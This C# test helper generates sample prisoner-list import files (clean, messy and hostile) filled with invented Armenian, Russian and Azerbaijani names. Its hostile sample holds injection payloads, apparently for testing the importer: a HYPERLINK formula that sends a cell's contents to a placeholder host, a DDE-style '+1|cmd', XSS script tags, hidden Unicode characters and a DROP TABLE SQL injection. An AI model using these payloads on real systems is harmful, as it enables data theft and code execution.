using System.Globalization;
using System.Text;
using Negotiations.Application.Tables;
using Negotiations.Application.Tests.Tables;
using Negotiations.Infrastructure.Demonstration;
using Negotiations.Tests;

namespace Negotiations.Application.Tests.PrisonerLists.Importing;

/// <summary>Makes the files of docs/samples. The same every time; every person in them is invented.</summary>
internal static class Samples
{
    private const SyntheticLanguage Ru = SyntheticLanguage.Russian;

    private static readonly string[] Header =
        ["Ազգանուն", "Имя", "Ata adı", "Date of birth", "Звание", "Личный номер", "Hərbi hissə", "Date of capture", "Place of capture", "Legal status", "State of health", "Տեղեկության աղբյուր"];

    /// <summary>The folder in the repository.</summary>
    public static string Folder => Path.Combine(Folders.Source, "docs", "samples");

    public static async Task<IReadOnlyDictionary<string, byte[]>> MakeAsync()
    {
        var messy = Messy();
        var hostile = Hostile();
        return new Dictionary<string, byte[]>
        {
            ["clean.csv"] = await TableFiles.Write(TableFormat.Csv, Header, Clean()),
            ["clean.xlsx"] = await TableFiles.Write(TableFormat.Xlsx, Header, Clean(), sheet: "Ցուցակ"),
            ["messy.csv"] = await TableFiles.Write(TableFormat.Csv, Header, messy),
            ["messy.xlsx"] = await TableFiles.Write(TableFormat.Xlsx, Header, messy, sheet: "Ցուցակ"),
            ["messy-windows-1251.csv"] = Windows1251(),
            // Not by the writer, which would make it harmless.
            ["hostile.csv"] = Encoding.UTF8.GetBytes(string.Join("\r\n", hostile.Select(row => string.Join(',', row.Select(Quoted))).Append("Wrong;Separator;1999"))),
            ["hostile.xlsx"] = await TableFiles.Write(TableFormat.Xlsx, hostile[0]!, [.. hostile.Skip(1), ["Too long", new string('x', 5000), "", ""]]),
        };
    }

    private static List<string?[]> Clean()
    {
        var people = People(SyntheticLanguage.Armenian, 120, 1)
            .Concat(People(SyntheticLanguage.Russian, 40, 2))
            .Concat(People(SyntheticLanguage.Azerbaijani, 40, 3))
            .OrderBy(p => p.Person.ServiceNumber, StringComparer.Ordinal);
        string[] ranks = ["Private", "Sergeant", "рядовой", "սերժանտ", "əsgər", "Lieutenant"];
        string[] places = ["north post", "river crossing", "road checkpoint", "hill 7", ""];
        string[] statuses = ["POW", "Prisoner of war", "военнопленный", "ռազմագերի", "hərbi əsir", "civilian"];
        string[] healths = ["good", "здоров", "առողջ", "yaralı", "sick", ""];
        return [.. people.Select((named, i) =>
        {
            var (person, language) = named;
            var captured = new DateOnly(2022, 9, 12).AddDays(i % 3);
            var health = healths[i % healths.Length];
            return new string?[]
            {
                person.Family[language],
                person.Given[language],
                person.Father[language],
                (i % 4) switch
                {
                    0 => person.Born.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture),
                    1 => person.Born.ToString("dd.MM.yyyy", CultureInfo.InvariantCulture),
                    2 => person.Born.ToString("yyyy-MM", CultureInfo.InvariantCulture),
                    _ => person.Born.ToString("d MMMM yyyy", CultureInfo.InvariantCulture),
                },
                ranks[i % ranks.Length],
                person.ServiceNumber,
                $"unit {(i % 7) + 1}",
                captured.ToString(i % 2 == 0 ? "dd.MM.yyyy" : "yyyy-MM-dd", CultureInfo.InvariantCulture),
                places[i % places.Length],
                statuses[i % statuses.Length],
                health == "yaralı" ? "yüngül yaralı" : health,
                "radio log",
            };
        })];
    }

    private static List<string?[]> Messy()
    {
        var rows = Clean().Take(30).ToList();
        void Spoil(int row, int column, string? text) => rows[row][column] = text;
        Spoil(0, 3, "31.02.1998");
        Spoil(1, 3, "05/07/1999");
        Spoil(2, 3, "12.05.98");
        Spoil(3, 3, "as a child");
        Spoil(4, 7, "13.09.2220");
        Spoil(5, 7, "01.12.2029");
        Spoil(6, 0, null);
        (rows[7][0], rows[7][1]) = (null, null);
        Spoil(8, 9, "PoW/civ");
        Spoil(9, 9, "guest");
        Spoil(10, 10, "sick, good");
        Spoil(11, 3, "2023");
        Spoil(12, 3, "təxminən 1995");
        Spoil(13, 3, "1985-1989");
        var (twin, namesake) = (rows[14], rows[15]);
        rows.Add([.. twin]);
        rows.Add([.. twin]);
        rows[^1][4] = "Captain";
        var other = SyntheticPeople.Make(SyntheticLanguage.Azerbaijani, 1, 4)[0];
        var (family, given) = (other.Family[SyntheticLanguage.Azerbaijani], other.Given[SyntheticLanguage.Azerbaijani]);
        rows.Add([family, given, null, "1990", null, namesake[5], null, null, null, null, null, null]);
        var heard = SyntheticPeople.Make(SyntheticLanguage.Armenian, 1, 5)[0];
        foreach (var language in new[] { SyntheticLanguage.Armenian, SyntheticLanguage.Russian })
        {
            rows.Add([heard.Family[language], heard.Given[language], heard.Father[language], heard.Born.Year.ToString(CultureInfo.InvariantCulture), null, null, null, null, null, null, null, "heard by telephone"]);
        }

        rows.Add(["А" + family[1..], given, null, "1991", null, null, null, null, null, null, null, "the first letter is Cyrillic"]);
        return rows;
    }

    private static byte[] Windows1251()
    {
        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        var people = SyntheticPeople.Make(Ru, 15, 6);
        var rows = people.Select((p, i) => string.Join(';', $"{p.Family[Ru]} {p.Given[Ru]} {p.Father[Ru]}", i switch
        {
            3 => "32.01.1990",
            4 => "",
            _ => p.Born.ToString("dd.MM.yyyy", CultureInfo.InvariantCulture) + (i % 2 == 0 ? " г.р." : ""),
        }, "рядовой", p.ServiceNumber, i == 5 ? "военнопленный/гражданский" : "военнопленный"));
        return Encoding.GetEncoding(1251).GetBytes(string.Join("\r\n", rows.Prepend("Ф.И.О.;Дата рождения;Зв.;Личный №;Правовой статус")) + "\r\n");
    }

    private static List<string?[]> Hostile()
    {
        var people = SyntheticPeople.Make(Ru, 8, 7);
        return
        [
            ["Surname", "First name", "DOB", "Remarks"],
            ["=HYPERLINK(\"http://example.invalid/?\"&A2,\"open\")", people[0].Given[Ru], "1990", "=1+1"],
            ["@SUM(1)", people[1].Given[Ru], "1991", "+1|cmd"],
            ["<script>alert(1)</script>", people[2].Given[Ru], "1992", "<img src=x onerror=alert(1)>"],
            [people[3].Family[Ru] + "\u202E" + people[3].Given[Ru], people[3].Given[Ru], "1993", "turned about"],
            [people[4].Family[Ru] + "\u200B", people[4].Given[Ru], "1994", "a blank that cannot be seen"],
            [people[5].Family[Ru] + "\u0007", people[5].Given[Ru], "1995", "a bell"],
            [new string('Ж', 300), people[6].Given[Ru], "1996", "too long a name"],
            ["'; DROP TABLE PrisonerEntries; --", people[7].Given[Ru], "1997", "Robert's cousin"],
        ];
    }

    private static IEnumerable<(SyntheticPerson Person, SyntheticLanguage Language)> People(SyntheticLanguage language, int count, int seed) =>
        SyntheticPeople.Make(language, count, seed).Select(person => (person, language));

    private static string Quoted(string? cell) => $"\"{cell?.Replace("\"", "\"\"", StringComparison.Ordinal)}\"";
}
